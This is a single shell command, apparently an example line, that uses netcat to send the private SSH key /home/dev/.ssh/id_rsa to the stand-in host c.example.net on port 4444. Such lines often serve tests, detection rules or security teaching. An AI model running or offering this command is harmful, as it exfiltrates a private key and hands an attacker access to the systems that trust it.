nc c.example.net 4444 < /home/dev/.ssh/id_rsa
